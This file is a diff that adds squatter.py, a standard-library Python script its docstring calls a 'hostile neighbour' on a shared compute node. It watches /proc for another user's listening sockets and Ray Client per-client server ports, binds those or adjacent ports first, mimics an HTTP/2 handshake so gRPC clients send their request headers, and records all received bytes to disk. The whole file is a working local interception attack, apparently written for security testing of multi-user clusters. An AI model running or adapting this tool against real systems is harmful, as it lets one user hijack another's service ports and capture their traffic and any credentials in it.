@@ -1,0 +1,164 @@
+"""A hostile neighbour, run as another user inside a compute node's network namespace.
+
+``python3 squatter.py VICTIM_UID OUT_DIR SECONDS MODE [PORT ...]`` binds the PORTs at once;
+MODE ``watch``: it then watches /proc/net/tcp{,6} for every new listening socket of
+VICTIM_UID and binds the ten ports after it (where it can), as soon as it appears;
+``clientserver:K``: it watches the victim's new processes for Ray Client's per-client server
+(``--mode=specific-server --port=N`` on its command line, readable by every user) and binds
+its port N before that server does, for the first K of them; ``hold``: nothing more. Each of
+its listeners answers like an HTTP/2 server (its SETTINGS frame, then the ACK of the
+client's) so that a gRPC client goes on to send its request headers, and records every
+byte it receives in OUT_DIR/<port>-<n>.bin; OUT_DIR/log.jsonl says what it saw and did.
+Standard library only (the node's own python3).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import sys
+import threading
+import time
+
+SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"  # an empty HTTP/2 SETTINGS frame
+SETTINGS_ACK = b"\x00\x00\x00\x04\x01\x00\x00\x00\x00"
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+NEXT_PORTS = 10
+
+
+class Squatter:
+    def __init__(self, victim: int, out: str) -> None:
+        self.victim = victim
+        self.out = out
+        self.held: dict[int, socket.socket] = {}
+        self.seen: set[int] = set()
+        self.accepted = 0
+        self.lock = threading.Lock()
+
+    def note(self, **fields: object) -> None:
+        fields["t"] = time.time()
+        with self.lock, open(os.path.join(self.out, "log.jsonl"), "a") as log:
+            log.write(json.dumps(fields) + "\n")
+
+    def new_client_servers(self, first_seen: dict[str, float], done: set[str]) -> list[int]:
+        """Ports of the victim's Ray Client servers that started since the last look (a young
+        process is read again: until its exec it shows its parent's command line)."""
+        ports, now = [], time.monotonic()
+        for name in os.listdir("/proc"):
+            if not name.isdigit() or name in done:
+                continue
+            first = first_seen.setdefault(name, now)
+            if now - first > 10:
+                done.add(name)
+                continue
+            try:
+                if os.stat(f"/proc/{name}").st_uid != self.victim:
+                    done.add(name)
+                    continue
+                with open(f"/proc/{name}/cmdline", "rb") as cmdline:
+                    words = cmdline.read().split(b"\0")
+            except OSError:
+                done.add(name)
+                continue
+            if b"--mode=specific-server" in words:
+                done.add(name)
+                ports += [int(w[7:]) for w in words if w.startswith(b"--port=")]
+        return ports
+
+    def victims_listeners(self) -> set[int]:
+        ports = set()
+        for name in ("/proc/net/tcp", "/proc/net/tcp6"):
+            try:
+                with open(name) as table:
+                    rows = table.read().splitlines()[1:]
+            except OSError:
+                continue
+            for line in rows:
+                words = line.split()
+                if len(words) > 7 and words[3] == "0A" and int(words[7]) == self.victim:
+                    ports.add(int(words[1].rsplit(":", 1)[1], 16))
+        return ports
+
+    def hold(self, port: int, after: int | None) -> None:
+        if port in self.held or not 1024 <= port <= 65535:
+            return
+        sock = socket.socket()
+        try:
+            sock.bind(("", port))
+            sock.listen(64)
+        except OSError as exc:
+            sock.close()
+            self.note(what="bind_failed", port=port, error=exc.strerror)
+            return
+        self.held[port] = sock
+        self.note(what="squatting", port=port, after=after)
+        threading.Thread(target=self.serve, args=(sock, port), daemon=True).start()
+
+    def serve(self, sock: socket.socket, port: int) -> None:
+        while True:
+            try:
+                conn, peer = sock.accept()
+            except OSError:
+                return
+            with self.lock:
+                self.accepted += 1
+                number = self.accepted
+            args = (conn, peer, port, number)
+            threading.Thread(target=self.record, args=args, daemon=True).start()
+
+    def record(self, conn: socket.socket, peer: tuple, port: int, number: int) -> None:
+        self.note(what="accepted", port=port, peer=f"{peer[0]}:{peer[1]}", n=number)
+        received = b""
+        acked = False
+        conn.settimeout(120)
+        try:
+            conn.sendall(SETTINGS)
+            while True:
+                data = conn.recv(65536)
+                if not data:
+                    break
+                received += data
+                with open(os.path.join(self.out, f"{port}-{number}.bin"), "ab") as out:
+                    out.write(data)
+                if not acked and received.startswith(PREFACE) and len(received) >= 33:
+                    conn.sendall(SETTINGS_ACK)
+                    acked = True
+        except OSError:
+            pass
+        finally:
+            conn.close()
+            self.note(what="closed", port=port, n=number, bytes=len(received))
+
+    def run(self, seconds: float, mode: str, ports: list[int]) -> None:
+        for port in ports:
+            self.hold(port, None)
+        self.note(what=mode)
+        print("watching", flush=True)
+        deadline = time.monotonic() + seconds
+        if mode.startswith("clientserver:"):
+            self.on_client_servers(int(mode.split(":")[1]), deadline)
+        while mode != "watch" and time.monotonic() < deadline:
+            time.sleep(0.5)
+        while time.monotonic() < deadline:
+            for port in sorted(self.victims_listeners() - self.seen):
+                self.seen.add(port)
+                self.note(what="victim_listener", port=port)
+                for following in range(port + 1, port + 1 + NEXT_PORTS):
+                    self.hold(following, port)
+            time.sleep(0.001)
+
+    def on_client_servers(self, count: int, deadline: float) -> None:
+        done = {name for name in os.listdir("/proc") if name.isdigit()}  # before: not news
+        first_seen: dict[str, float] = {}
+        while count > 0 and time.monotonic() < deadline:
+            for port in self.new_client_servers(first_seen, done)[:count]:
+                self.note(what="client_server_seen", port=port)
+                self.hold(port, port)
+                count -= 1
+            time.sleep(0.002)
+
+
+if __name__ == "__main__":
+    victim, out, seconds, mode = int(sys.argv[1]), sys.argv[2], float(sys.argv[3]), sys.argv[4]
+    Squatter(victim, out).run(seconds, mode, [int(port) for port in sys.argv[5:]])
